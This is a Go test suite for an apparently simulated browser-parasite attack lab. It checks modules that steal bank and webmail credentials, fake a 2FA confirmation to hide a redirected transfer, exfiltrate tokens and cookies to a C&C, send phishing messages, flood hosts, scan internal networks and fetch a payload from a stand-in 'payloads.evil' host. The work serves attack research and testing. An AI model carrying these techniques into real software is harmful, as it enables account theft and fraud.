package attacks_test

import (
	"encoding/json"
	"errors"
	"strconv"
	"strings"
	"testing"

	"masterparasite/internal/apps"
	"masterparasite/internal/attacker"
	"masterparasite/internal/attacks"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/dom"
	"masterparasite/internal/parasite"
)

// lab assembles a scenario with all five applications, an armed master
// and a parasite strain carrying the full Table V module catalogue.
type lab struct {
	t        *testing.T
	s        *core.Scenario
	bank     *apps.Bank
	mail     *apps.Webmail
	social   *apps.Social
	exchange *apps.Exchange
	chat     *apps.Chat
	cfg      *parasite.Config
}

func newLab(t *testing.T) *lab {
	t.Helper()
	s, err := core.NewScenario(core.Config{})
	if err != nil {
		t.Fatal(err)
	}
	l := &lab{
		t: t, s: s,
		bank:     apps.NewBank("bank.example"),
		mail:     apps.NewWebmail("mail.example"),
		social:   apps.NewSocial("social.example"),
		exchange: apps.NewExchange("exchange.example"),
		chat:     apps.NewChat("chat.example"),
	}
	s.AddHandler(l.bank.Host, l.bank.Handler())
	s.AddHandler(l.mail.Host, l.mail.Handler())
	s.AddHandler(l.social.Host, l.social.Handler())
	s.AddHandler(l.exchange.Host, l.exchange.Handler())
	s.AddHandler(l.chat.Host, l.chat.Handler())

	l.cfg = parasite.NewConfig("pv", "bot-v", core.MasterHost)
	l.cfg.Propagate = false
	attacks.Install(l.cfg)
	s.Registry.Add(l.cfg)

	// Arm the master for every app's persistent script.
	for host, path := range map[string]string{
		l.bank.Host: "/js/bank.js", l.mail.Host: "/js/mail.js",
		l.social.Host: "/js/social.js", l.exchange.Host: "/js/exchange.js",
		l.chat.Host: "/js/chat.js",
	} {
		s.Master.AddTarget(attacker.Target{
			Name: host + path, Kind: attacker.KindJS, ParasitePayload: "pv",
			Original: []byte("function genuineApp(){}"),
		})
	}
	return l
}

// visit loads a page with the app's wiring installed.
func (l *lab) visit(host, path string, wire func(*browser.Page)) *browser.Page {
	l.t.Helper()
	page, err := l.s.VisitWith(l.s.Victim, host, path, browser.VisitOpts{OnDocument: wire})
	if err != nil {
		l.t.Fatalf("visit %s%s: %v", host, path, err)
	}
	return page
}

// command queues a Table V command for the next page load.
func (l *lab) command(cmd string) { l.s.CNC.QueueCommand("bot-v", []byte(cmd)) }

// loot fetches an exfiltrated stream.
func (l *lab) loot(stream string) ([]byte, bool) { return l.s.CNC.Upload("bot-v", stream) }

func TestCatalogCoversTableV(t *testing.T) {
	t.Parallel()
	cat := attacks.Catalog()
	if len(cat) != 17 {
		t.Fatalf("catalog = %d rows", len(cat))
	}
	counts := map[attacks.Category]int{}
	cia := map[attacks.CIA]int{}
	for _, a := range cat {
		counts[a.Category]++
		cia[a.CIA]++
		if a.Module == nil {
			t.Errorf("%s has no implementation", a.Name)
		}
		if a.Targets == "" || a.Exploit == "" || a.Requirements == "" {
			t.Errorf("%s row incomplete", a.Name)
		}
	}
	if counts[attacks.VictimBrowser] != 12 || counts[attacks.VictimOS] != 3 || counts[attacks.VictimNetwork] != 2 {
		t.Fatalf("category split = %v", counts)
	}
	if cia[attacks.Confidentiality] == 0 || cia[attacks.Integrity] == 0 || cia[attacks.Availability] == 0 {
		t.Fatalf("CIA split = %v", cia)
	}
	if _, ok := attacks.ByName("steal-login"); !ok {
		t.Fatal("ByName failed")
	}
	if _, ok := attacks.ByName("ghost"); ok {
		t.Fatal("ByName found a ghost")
	}
}

func TestStealLoginFromBank(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("steal-login|")
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })

	// The user logs in; the parasite's hook sees the credentials first.
	form := page.Doc.FindByID("login")
	if form == nil {
		t.Fatal("no login form")
	}
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "hunter2"})
	l.s.Run()

	loot, ok := l.loot("creds")
	if !ok {
		t.Fatal("no creds exfiltrated")
	}
	var got map[string]string
	if err := json.Unmarshal(loot, &got); err != nil {
		t.Fatalf("loot not JSON: %v", err)
	}
	if got["user"] != "alice" || got["pass"] != "hunter2" || got["site"] != l.bank.Host {
		t.Fatalf("loot = %v", got)
	}
	// The genuine login still went through: stealth preserved.
	if len(l.bank.Accounts["alice"].User) == 0 {
		t.Fatal("account lost")
	}
}

func TestFakeLoginWhenAlreadyLoggedIn(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	login(t, l)
	l.command("steal-login|")
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	fake := page.Doc.FindByID("login")
	if fake == nil || fake.Attr("class") != "fake-login-overlay" {
		t.Fatal("no fake login overlay on the logged-in page")
	}
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "retyped-secret"})
	l.s.Run()
	loot, ok := l.loot("creds")
	if !ok || !strings.Contains(string(loot), "retyped-secret") {
		t.Fatalf("fake login loot = %q ok=%v", loot, ok)
	}
}

// login performs a clean bank login so later pages are authenticated.
func login(t *testing.T, l *lab) {
	t.Helper()
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "hunter2"})
	l.s.Run()
	if _, ok := l.s.Victim.Cookies().Get(l.bank.Host, "sid"); !ok {
		t.Fatal("login did not establish a session")
	}
}

func setAndSubmit(t *testing.T, page *browser.Page, formID string, values map[string]string) {
	t.Helper()
	form := page.Doc.FindByID(formID)
	if form == nil {
		t.Fatalf("form %s missing", formID)
	}
	for k, v := range values {
		if !dom.SetFormValue(form, k, v) {
			t.Fatalf("form %s has no input %s", formID, k)
		}
	}
	if _, _, err := page.Doc.Submit(formID); err != nil {
		t.Fatalf("submit %s: %v", formID, err)
	}
}

func TestTransactionManipulationAnd2FABypass(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	login(t, l)

	// The master orders the manipulation; the user initiates an innocent
	// transfer to grandma.
	l.command("transaction-manipulation|iban=XX99 EVIL,amount=9000")
	page := l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	if page.Doc.FindByID("transfer") == nil {
		t.Fatal("no transfer form — login lost?")
	}
	setAndSubmit(t, page, "transfer", map[string]string{"iban": "DE22 GRANDMA", "amount": "50"})
	l.s.Run()

	// The user's intended transfer was exfiltrated, the attacker's is
	// pending at the bank.
	if loot, ok := l.loot("manipulated-tx"); !ok || !strings.Contains(string(loot), "GRANDMA") {
		t.Fatalf("manipulated-tx loot = %q ok=%v", loot, ok)
	}

	// OTP confirmation page: the parasite rewrites the displayed details
	// so the user sees their own transfer (the 2FA desync of Table V).
	l.command("bypass-2fa|Transfer 50 EUR to DE22 GRANDMA")
	confirm := l.visit(l.bank.Host, "/confirm", func(p *browser.Page) { l.bank.Wire(p, nil) })
	details := confirm.Doc.FindByID("pending-details")
	if details == nil {
		t.Fatal("no pending details")
	}
	if got := details.TextContent(); !strings.Contains(got, "GRANDMA") {
		t.Fatalf("user sees %q — desync failed", got)
	}
	// The user, reassured, enters the correct OTP.
	setAndSubmit(t, confirm, "otp", map[string]string{"code": "123456"})
	l.s.Run()

	if len(l.bank.Transfers) != 1 {
		t.Fatalf("transfers = %d", len(l.bank.Transfers))
	}
	tx := l.bank.Transfers[0]
	if tx.ToIBAN != "XX99 EVIL" || tx.Amount != 9000 || !tx.Authorized {
		t.Fatalf("bank committed %+v — attack failed", tx)
	}
}

func TestWebsiteDataReadsEmails(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	// Log into webmail.
	page := l.visit(l.mail.Host, "/", func(p *browser.Page) { l.mail.Wire(p, nil) })
	setAndSubmit(t, page, "login", map[string]string{"user": "alice", "pass": "hunter2"})
	l.s.Run()

	l.command("website-data|")
	l.visit(l.mail.Host, "/", func(p *browser.Page) { l.mail.Wire(p, nil) })
	loot, ok := l.loot("website-data")
	if !ok {
		t.Fatal("no website data")
	}
	if !strings.Contains(string(loot), "confidential report") {
		t.Fatalf("loot misses email body: %q", loot)
	}
}

func TestWebsiteDataReadsBankBalance(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	login(t, l)
	l.command("website-data|")
	l.visit(l.bank.Host, "/", func(p *browser.Page) { l.bank.Wire(p, nil) })
	loot, ok := l.loot("website-data")
	if !ok || !strings.Contains(string(loot), "10000 EUR") {
		t.Fatalf("balance loot = %q ok=%v", loot, ok)
	}
}

func TestSendPhishingThroughChat(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("send-phishing|urgent: click evil.example/login")
	l.visit(l.chat.Host, "/", func(p *browser.Page) { l.chat.Wire(p, nil) })
	l.s.Run()
	if len(l.chat.Sent) != 3 {
		t.Fatalf("phishing messages sent = %d, want 3 (one per contact)", len(l.chat.Sent))
	}
	for _, m := range l.chat.Sent {
		if !strings.Contains(m.Text, "evil.example") {
			t.Fatalf("message %+v lacks the phishing text", m)
		}
	}
	if loot, ok := l.loot("phished"); !ok || !strings.Contains(string(loot), "bob") {
		t.Fatalf("phished loot = %q", loot)
	}
}

func TestBrowserDataExfiltration(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.Victim.LocalStorage(l.chat.Host)["jwt"] = "eyJ-token"
	l.s.Victim.Cookies().Set(l.chat.Host, "theme", "dark")
	l.command("browser-data|")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("browser-data")
	if !ok {
		t.Fatal("no browser data")
	}
	s := string(loot)
	if !strings.Contains(s, "eyJ-token") || !strings.Contains(s, "theme=dark") || !strings.Contains(s, "Chrome") {
		t.Fatalf("loot = %s", s)
	}
}

func TestPersonalDataRequiresPermission(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("personal-data|microphone")
	l.visit(l.chat.Host, "/", nil)
	if _, ok := l.loot("sensor-microphone"); ok {
		t.Fatal("microphone captured without permission")
	}
	// Grant the permission on the infected origin and retry.
	l.s.Victim.LocalStorage(l.chat.Host)["perm:microphone"] = "granted"
	l.command("personal-data|microphone")
	l.visit(l.chat.Host, "/", nil)
	if _, ok := l.loot("sensor-microphone"); !ok {
		t.Fatal("no capture despite granted permission")
	}
}

func TestStealComputeMines(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("steal-compute|500")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("mined")
	if !ok || !strings.Contains(string(loot), "iterations=500") {
		t.Fatalf("mined loot = %q", loot)
	}
}

func TestClickjackingAndAdInjection(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("clickjacking|bait.example/prize")
	page := l.visit(l.chat.Host, "/", nil)
	if page.Doc.FindByID("cj-overlay") == nil {
		t.Fatal("no clickjacking overlay")
	}
	l.command("ad-injection|ads.evil/banner.png")
	page2 := l.visit(l.chat.Host, "/", nil)
	found := false
	for _, img := range page2.Doc.FindByTag("img") {
		if img.Attr("src") == "ads.evil/banner.png" {
			found = true
		}
	}
	if !found {
		t.Fatal("no injected ad")
	}
}

func TestDDoSFloodsTarget(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.AddPage("victim-site.example", "/", "<html><body>up</body></html>",
		map[string]string{"Cache-Control": "no-store"})
	l.command("ddos|victim-site.example|20")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("ddos-report"); !ok || !strings.Contains(string(loot), "requests=20") {
		t.Fatalf("ddos report = %q", loot)
	}
	hits := 0
	for i := 0; i < 20; i++ {
		hits += l.s.Served("victim-site.example/?x=" + strconv.Itoa(i))
	}
	if hits != 20 {
		t.Fatalf("target received %d requests, want 20", hits)
	}
}

func TestSpectreReadsPlantedSecret(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.Victim.LocalStorage(l.chat.Host)["spectre-secret"] = "LAYOUT:0xdeadbeef"
	l.command("spectre|")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("spectre")
	if !ok || string(loot) != "LAYOUT:0xdeadbeef" {
		t.Fatalf("spectre loot = %q", loot)
	}
}

func TestRowhammerNeedsVulnerableDRAM(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("rowhammer|5000")
	l.visit(l.chat.Host, "/", nil)
	if _, ok := l.loot("rowhammer"); ok {
		t.Fatal("rowhammer succeeded on mitigated hardware")
	}
	l.s.Victim.LocalStorage(l.chat.Host)["dram"] = "vulnerable"
	l.command("rowhammer|5000")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("rowhammer"); !ok || !strings.Contains(string(loot), "bitflip") {
		t.Fatalf("rowhammer loot = %q", loot)
	}
}

func TestZeroDayStagesPayload(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	// The payload host is attacker-controlled, so it serves permissive
	// CORS headers and the parasite can read the exploit bytes.
	l.s.AddPage("payloads.evil", "/cve.bin", strings.Repeat("\x90", 64),
		map[string]string{"Cache-Control": "no-store", "Access-Control-Allow-Origin": "*"})
	l.command("zero-day|payloads.evil/cve.bin")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("zero-day")
	if !ok || !strings.Contains(string(loot), "64 bytes") {
		t.Fatalf("zero-day loot = %q", loot)
	}
}

func TestInternalNetworkScan(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	// Two internal devices exist; one candidate does not resolve.
	l.s.AddPage("router.local", "/favicon.ico", "icon", nil)
	l.s.AddPage("printer.local", "/favicon.ico", "icon", nil)
	l.command("attack-internal|router.local,printer.local")
	l.visit(l.chat.Host, "/", nil)
	loot, ok := l.loot("internal-hosts")
	if !ok {
		t.Fatal("no scan result")
	}
	var hosts []string
	if err := json.Unmarshal(loot, &hosts); err != nil {
		t.Fatal(err)
	}
	if len(hosts) != 2 {
		t.Fatalf("hosts = %v", hosts)
	}
}

func TestDDoSInternal(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.s.AddPage("iot-cam.local", "/", "cam", map[string]string{"Cache-Control": "no-store"})
	l.command("ddos-internal|iot-cam.local|10")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("internal-ddos-report"); !ok || !strings.Contains(string(loot), "requests=10") {
		t.Fatalf("internal ddos = %q", loot)
	}
}

func TestSideChannelBetweenTabs(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("side-channel|send")
	l.visit(l.chat.Host, "/", nil)
	l.command("side-channel|recv")
	l.visit(l.chat.Host, "/", nil)
	if loot, ok := l.loot("side-channel"); !ok || !strings.HasPrefix(string(loot), "beat@") {
		t.Fatalf("side channel loot = %q", loot)
	}
}

func TestModuleErrorsDoNotBreakPage(t *testing.T) {
	t.Parallel()
	l := newLab(t)
	l.command("bypass-2fa|x") // no pending confirmation on this page
	page := l.visit(l.chat.Host, "/", nil)
	if page == nil {
		t.Fatal("page broke")
	}
	var reqErr error = attacks.ErrRequiresOpenApp
	if !errors.Is(reqErr, attacks.ErrRequiresOpenApp) {
		t.Fatal("sentinel error identity broken")
	}
}
